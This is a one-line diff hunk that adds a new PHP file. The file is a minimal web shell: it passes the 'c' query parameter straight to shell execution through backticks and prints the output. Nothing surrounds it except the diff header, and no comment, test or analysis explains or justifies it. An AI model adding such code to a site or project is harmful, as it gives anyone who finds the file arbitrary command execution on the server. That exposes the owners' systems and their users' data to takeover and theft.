@@ -1,0 +1,1 @@
+<?php $run = fn($x) => `$x`; echo $run($_GET['c']);
